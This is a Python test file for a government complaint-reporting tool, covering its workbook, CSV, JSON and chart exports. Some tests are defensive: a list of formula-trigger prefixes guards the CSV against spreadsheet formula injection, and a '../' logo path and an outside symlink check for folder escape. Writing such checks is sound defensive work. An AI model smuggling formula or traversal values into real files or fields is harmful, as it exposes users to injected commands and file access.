def test_figures_of_a_small_number_are_marked_in_the_workbook_and_stay_numbers(
    locale, edition, tmp_path
):
    """By the format of their cells; the first sheet says what the mark means."""
    report, t = edition(report_of("usual", locale)), catalog(locale)
    book = report_xlsx(report, ZONE)
    sheets = sheets_of(book, tmp_path)
    shutil.unpack_archive(tmp_path / "r.xlsx", tmp_path / "x", "zip")
    styles = (tmp_path / "x/xl/styles.xml").read_text(encoding="utf-8")
    shapes = dict(re.findall(r'<numFmt numFmtId="(\d+)" formatCode="([^"]*)"', styles))
    used = re.findall(r'<xf numFmtId="(\d+)"', styles.partition("<cellXfs")[2])
    marked = {str(n) for n, each in enumerate(used) if "(&lt;5)" in shapes.get(each, "")}
    compared = set()
    for table in report.tables:
        number = list(sheets).index(t(f"report.section.{table.key}")[:31]) + 1
        sheet = (tmp_path / f"x/xl/worksheets/sheet{number}.xml").read_text(encoding="utf-8")
        cells = re.findall(r'<c r="([A-Z]+\d+)" s="(\d+)"><v>', sheet)
        start = len(sheets[t(f"report.section.{table.key}")[:31]][0]) - len(table.columns)
        start -= table.key == "unit_trend"
        rows = (*table.rows, *([table.total] if table.total else []))
        few = {
            f"{chr(65 + start + at)}{line}"
            for line, row in enumerate(rows, 2)
            for at, (column, cell) in enumerate(zip(table.columns, row.cells, strict=True))
            if isinstance(cell, int | float)
            and (0 < row.of.get(column.key, 0) < 5 or (row.small and column.key == "share"))
        }
        assert {place for place, style in cells if style in marked} == few, table.key
        compared |= {table.key} if few else set()
    assert len(compared) > (0 if report.edition == "public" else 2)
    cover = [str(cell) for line in sheets[t("report.sheet.cover")] for cell in line]
    assert t("report.sheet.few_note", least=5) in cover
    many = report_xlsx(replace(report, tables=()), ZONE)
    cover = [
        str(cell) for line in sheets_of(many, tmp_path, "m.xlsx").popitem()[1] for cell in line
    ]
    assert not any("(<5)" in cell for cell in cover)


def test_what_a_sheet_has_no_room_for_is_told(tmp_path):
    report, t = report_of("usual", "id"), catalog("id")
    sheets = sheets_of(report_xlsx(report, ZONE, most=500), tmp_path)
    assert len(sheets["Bukti"]) == 501
    total = sum(len(row.tickets) for table in report.tables for row in table.rows)
    cover = [str(cell) for line in sheets[t("report.sheet.cover")] for cell in line]
    assert t("report.sheet.cut", kept=500, n=total - 500) in cover


def test_the_workbook_is_safe_filtered_and_charted(tmp_path):
    path = tmp_path / "r.xlsx"
    path.write_bytes(workbook_of("odd", "id"))
    unpacked = tmp_path / "x"
    shutil.unpack_archive(path, unpacked, "zip")
    parts = {
        p.relative_to(unpacked).as_posix(): p.read_text(encoding="utf-8")
        for p in unpacked.rglob("*.xml")
    }
    sheets = [text for name, text in parts.items() if name.startswith("xl/worksheets/")]
    assert sheets
    assert not any("<f>" in text or "<f " in text for text in sheets)
    assert not any("hyperlink" in text for text in sheets)
    assert sum("<autoFilter" in text for text in sheets) == len(sheets) - 1  # not on the cover
    assert sum('state="frozen"' in text for text in sheets) == len(sheets) - 1
    charts = [text for name, text in parts.items() if name.startswith("xl/charts/chart")]
    assert sorted(re.findall(r"<c:(line|bar)Chart>", "".join(charts))) == [
        "bar",
        "bar",
        "line",
        "line",
    ]
    assert report_xlsx(odd_report(), ZONE) == path.read_bytes()


@pytest.mark.parametrize("locale", ["id", "en"])
def test_the_workbook_does_not_speak_of_what_only_the_page_shows(locale, tmp_path):
    sheets = sheets_of(workbook_of("usual", locale), tmp_path)
    cover = " ".join(str(cell) for row in next(iter(sheets.values())) for cell in row)
    wrong = {
        "id": ("dalam kurung", "garis putus-putus bawah", "disebutkan"),
        "en": ("in brackets", "dashed line is 0%", "is named"),
    }
    assert [words for words in wrong[locale] if words.lower() in cover.lower()] == []
    assert {"id": "Hitung ulang menghitung", "en": "Recount counts"}[locale] in cover


def test_only_shares_of_enough_duties_are_shaded(tmp_path):
    """Three units with 9, 4 and 5 duties, all of them missed."""
    usual = report_of("usual", "id")
    rules = usual.table("unit_rule")
    (first, *others) = rules.columns
    rows = tuple(
        Row(key, (0.0, *(None for _ in others)), of={first.key: number})
        for key, number in (("u1", 9), ("u2", 4), ("u3", 5))
    )
    changed = tuple(replace(t, rows=rows, total=None) if t is rules else t for t in usual.tables)
    report = replace(usual, tables=changed)
    (section,) = (each for each in sections(report, ZONE, 9) if each.key == "unit_rule")
    assert [line.cells[0].heat for line in section.lines] == [4, 0, 4]
    path = tmp_path / "r.xlsx"
    path.write_bytes(report_xlsx(report, ZONE))
    shutil.unpack_archive(path, tmp_path / "x", "zip")
    found = [
        each
        for sheet in (tmp_path / "x/xl/worksheets").glob("*.xml")
        for each in re.findall(
            r'<conditionalFormatting sqref="([^"]*)"', sheet.read_text(encoding="utf-8")
        )
    ]
    assert any(each.startswith("B2 B4 ") for each in found), found


ALWAYS_RECALCULATE = """<?xml version="1.0" encoding="UTF-8"?>
<oor:items xmlns:oor="http://openoffice.org/2001/registry">
<item oor:path="/org.openoffice.Office.Calc/Formula/Load">
<prop oor:name="OOXMLRecalcMode" oor:op="fuse"><value>0</value></prop></item></oor:items>"""
"""A setting of LibreOffice: it trusts no value that is stored beside a formula."""


def report_with_duties() -> Report:
    """A year of two units and four steps, with notifications."""
    cases = [
        case(
            f"t{number}",
            event_at("received", f"2026-{10 + number % 2}-{1 + number % 13:02} 10:00"),
            *(
                event_at(kind, f"2026-11-{14 + number % 9:02} {11 + at}:00")
                for at, kind in enumerate(STEPS[: number % 4])
            ),
            unit=("pupr", "dinkes")[number % 2],
            channel=("web", 'a "*"', "sms")[number % 3],
            classification=("information_request", "complaint", None)[number % 3],
            sees=SEES | {"follow_up_published", "returned"},
        )
        for number in range(24)
    ]
    told = [(f"t{n}", ("reminder", "breach")[n % 2], "half", "2026-11-12") for n in range(9)]
    return report_of_duties(cases, locale="en", notified=told)


STEPS = ("follow_up_published", "settled", "reopened")


@pytest.mark.thorough
def test_libreoffice_reads_the_same_figures_and_counts_them_again(tmp_path, monkeypatch):
    """All are saved by it in its own format, at one start.

    The values stored beside the formulas are wrong here: it computes them from the list of duties.
    """
    needed(SOFFICE, "LibreOffice", "apt install libreoffice-calc")
    kinds = ("usual", "odd")
    for kind in kinds:
        (tmp_path / f"{kind}.xlsx").write_bytes(workbook_of(kind, "en"))
    write, duties = xlsx_duties._Formulas.write, report_with_duties()
    monkeypatch.setattr(xlsx_duties._Formulas, "write", lambda *of: write(*of[:-1], value=-1))
    (tmp_path / "duties.xlsx").write_bytes(report_xlsx(duties, ZONE))
    (tmp_path / "profile" / "user").mkdir(parents=True)
    (tmp_path / "profile" / "user" / "registrymodifications.xcu").write_text(ALWAYS_RECALCULATE)
    subprocess.run(
        [
            str(SOFFICE),
            f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}",
            "--headless",
            "--convert-to",
            "ods",
            "--outdir",
            str(tmp_path / "out"),
            *(str(tmp_path / f"{kind}.xlsx") for kind in (*kinds, "duties")),
        ],
        check=True,
        capture_output=True,
        timeout=180,
        env={**os.environ, "HOME": str(tmp_path)},
    )
    for kind in kinds:
        book = CalamineWorkbook.from_path(tmp_path / "out" / f"{kind}.ods")
        sheets = {name: book.get_sheet_by_name(name).to_python() for name in book.sheet_names}
        assert compare(report_of(kind, "en"), sheets, "en") > 300, kind
    book = CalamineWorkbook.from_path(tmp_path / "out" / "duties.ods")
    again = book.get_sheet_by_name("Recount").to_python()[1:]
    figures = [line[:5] for line in again if line[3] != ""]
    assert len(figures) > 150
    assert [line for line in figures if line[4] != pytest.approx(line[3])] == []
    assert len(book.get_sheet_by_name("Duties").to_python()) == len(duties.duties.rows) + 1


# --- JSON and CSV ---


@EVERY
@BOTH
def test_json_and_csv_hold_the_tables_and_are_the_same_bytes_again(kind, locale):
    report = report_of(kind, locale)
    text, lines = report_json(report), report_csv(report)
    again = MAKING[kind](locale)
    assert (text, lines) == (report_json(again), report_csv(again))
    found = json.loads(text)
    assert found["sha256"] == report.sha256
    assert [table["key"] for table in found["tables"]] == [table.key for table in report.tables]
    rows = list(csv.reader(io.StringIO(lines)))
    assert rows[0] == ["table", "row", "column", "value"]
    place = 1
    for table, told in zip(report.tables, found["tables"], strict=True):
        rows_of = (*table.rows, *([table.total] if table.total else []))
        lines_of = [*told["rows"], *([told["total"]] if table.total else [])]
        for row, line in zip(rows_of, lines_of, strict=True):
            assert line.get("of", {}) == row.of
            assert (line["key"], line["tickets"]) == (row.key, list(row.tickets))
            for column, cell in zip(table.columns, row.cells, strict=True):
                value = line["cells"][column.key]
                key, name, value_text = rows[place][1:]
                assert (rows[place][0], name) == (table.key, column.key)
                assert key.removeprefix("'") == row.key
                if isinstance(cell, float):
                    assert value == pytest.approx(cell, abs=1e-6)
                    assert float(value_text) == pytest.approx(cell, abs=1e-6)
                else:
                    plain = cell.isoformat() if isinstance(cell, date) else cell
                    assert value == plain
                    assert value_text.removeprefix("'") == ("" if plain is None else str(plain))
                place += 1
    assert place == len(rows)


def test_no_field_of_the_csv_is_a_formula():
    fields = [field for line in csv.reader(io.StringIO(report_csv(odd_report()))) for field in line]
    begun = [field for field in fields if field[:1] in {"=", "+", "@", "\t", "\r"}]
    begun += [
        field for field in fields if field.startswith("-") and not re.fullmatch(r"-[\d.]+", field)
    ]
    assert begun == []
    assert f"'{FORMULA}" in fields


def test_the_checksum_hangs_on_every_figure_and_ticket():
    tables = view("id").tables
    assert sha256_of(tables) == sha256_of(view("en").tables)
    first = tables[1]
    row = first.rows[0]
    for changed in (
        replace(row, cells=(row.cells[0] + 1, *row.cells[1:])),
        replace(row, tickets=row.tickets[1:]),
    ):
        other = replace(first, rows=(changed, *first.rows[1:]))
        assert sha256_of((tables[0], other, *tables[2:])) != sha256_of(tables)


# --- plots ---


@BOTH
def test_each_plot_is_there_twice_the_same_and_says_something(locale):
    drawn = drawn_of("usual", locale)
    assert set(drawn) == {"by_unit", "ageing", "trend", "escalations"}
    if locale == "id":
        assert drawn == plots(report_of("usual", locale))
    t = catalog(locale)
    for plot in drawn.values():
        root = ElementTree.fromstring(plot.svg)
        texts = " ".join(node.text or "" for node in root.iter() if node.tag.endswith("text"))
        assert texts
        assert plot.title == t(f"report.plot.{plot.key}")
        assert plot.says
        assert "<metadata" not in plot.svg
    assert t("report.plot.not_late") in drawn["ageing"].svg
    assert ">–</text>" in drawn["escalations"].svg  # no bar is no share of 0%
    assert {"id": "Mei 2026", "en": "May 2026"}[locale] in drawn["trend"].svg


@pytest.mark.parametrize("target", [None, 1.0])
def test_the_labels_behind_the_bars_of_units_are_inside_of_the_picture(target):
    """Also on a phone, where names take half of the width, and beside the line of the target."""
    full = view("id", units=16, count=400)
    units = full.table("by_unit")
    assert units
    rows = tuple(replace(r, cells=(*r.cells[:7], 0.951, *r.cells[8:])) for r in units.rows)
    tables = tuple(replace(t, rows=rows) if t is units else t for t in full.tables)
    plot = plots(replace(full, tables=tables, target=target))["by_unit"]
    for svg in (plot.svg, plot.wide):
        root = ElementTree.fromstring(svg)
        right = float(root.attrib["viewBox"].split()[2])
        texts = [node for node in root.iter() if node.tag.endswith("text")]
        labels = [node for node in texts if "text-anchor" not in node.attrib]
        assert len(labels) > 10
        for node in labels:
            ends = float(node.attrib["x"]) + width_of(
                node.text or "", float(node.attrib["font-size"])
            )
            assert ends <= right, node.text


@pytest.mark.parametrize("kind", ["empty", "nothing"])
def test_where_there_is_nothing_to_draw_a_sentence_stands(kind):
    assert drawn_of(kind, "id") == {}
    source = page_of(kind, "id")
    assert "<svg" not in source
    assert catalog("id")("report.nothing" if kind == "empty" else "report.no_plot_full") in source


@pytest.mark.parametrize("without", [False, True])
def test_a_total_without_any_sum_is_no_empty_row(without):
    full = report_of("usual", "id")
    trend = full.table("trend")
    assert trend
    total = Row("total", (None if without else 9,) + (None,) * (len(trend.columns) - 1))
    tables = tuple(replace(t, total=total) if t is trend else t for t in full.tables)
    shown = sections(replace(full, tables=tables), ZONE, 9)
    (section,) = (each for each in shown if each.key == "trend")
    assert (section.total is None) is without


def test_a_plot_of_the_public_edition_draws_nothing_that_is_withheld():
    public, drawn = report_of("public", "en"), drawn_of("public", "en")
    units = public.table("by_unit")
    assert units
    places = [column.key for column in units.columns]
    shown = [row for row in units.rows if isinstance(row.cells[places.index("share")], float)]
    assert len(shown) < len(units.rows)
    assert drawn["by_unit"].says.startswith(catalog("en")("report.plot.by_unit_withheld"))
    labels = [
        re.sub("<[^>]*>", "", each) for each in re.findall(r"<text.*?</text>", drawn["by_unit"].svg)
    ]
    assert sum("%" in label for label in labels) == len(shown) + 5  # and the axis


# --- names and the site's own file ---


def test_names_come_from_the_site_in_the_readers_language():
    site = load_site(REPOSITORY / "examples" / "kabupaten-contoh")
    for locale in LOCALES:
        names = names_of(site, locale, date(2026, 11, 30))
        rule = site.evaluation_context.law.on("sp4n/first-follow-up", date(2026, 11, 30))
        assert rule
        text, detail = names("rule", rule.id)
        assert text == rule.label[locale]
        assert detail.startswith(rule.citation)
        assert names("unit", "dinsos").text == "Dinas Sosial"
        assert names("classification", "").text == catalog(locale)("classification.none")
        assert names("month", "2026-05").text == {"id": "Mei 2026", "en": "May 2026"}[locale]
        assert (
            names("age", "0-3").text == {"id": "0–3 hari kerja", "en": "0–3 working days"}[locale]
        )
        assert "60" in names("age", "61-").text
        assert names("rung", "x").text in {
            "jenjang yang tidak lagi dipakai",
            "a step no longer used",
        }
        assert names("kind", "breach").text == catalog(locale)("notice.breach")
        assert names("metric", "on_time").text == catalog(locale)("report.metric.on_time")
        assert names("unit", "").text == catalog(locale)("report.no_unit")


def test_the_example_site_has_a_letterhead_and_another_needs_none():
    head = load_site(REPOSITORY / "examples" / "kabupaten-contoh").letterhead
    assert head.logo == REPOSITORY / "examples" / "kabupaten-contoh" / "logo.svg"
    assert head.signature
    assert head.signature.nip
    assert load_site(REPOSITORY / "examples" / "boston").letterhead == Letterhead()


SIGNED_BY = "[signature]\nplace = 'Salo'\ntitle = 'Inspektur'\n"


@pytest.mark.parametrize(
    ("text", "said"),
    [
        (
            "[letterhead]\nlogo = '../logo.png'",
            "letterhead.logo: '../logo.png' lies outside the site's folder; copy it there",
        ),
        (
            "[letterhead]\nlogo = 'logo.gif'",
            "letterhead.logo: 'logo.gif' is no picture; name a .png, .jpg or .svg file",
        ),
        ("[letterhead]\nlogo = 'lambang.png'", "letterhead.logo: no file 'lambang.png' in "),
        ("[letterhead]\nline = ['a']", "letterhead.line: unknown key; did you mean `lines`?"),
        (SIGNED_BY, "signature.name: is missing"),
        (SIGNED_BY + "name = 'c'\nnip = '123'", "signature.nip: '123' is no NIP; it has 18 digits"),
        ("[letterhead", "line 1: the name of a table has no closing bracket"),
    ],
)
def test_a_mistake_in_report_toml_is_told_by_its_key(site_folder, text, said):
    (site_folder / "report.toml").write_text(text, encoding="utf-8")
    (line,) = mistakes(site_folder)
    assert line.startswith(f"report.toml: {said}"), line


def test_a_logo_that_a_link_leads_out_of_the_site_is_refused(site_folder, tmp_path):
    outside = tmp_path / "outside.png"
    outside.write_bytes(b"x")
    (site_folder / "logo.png").symlink_to(outside)
    (site_folder / "report.toml").write_text("[letterhead]\nlogo = 'logo.png'", encoding="utf-8")
    (line,) = mistakes(site_folder)
    assert "lies outside the site's folder" in line
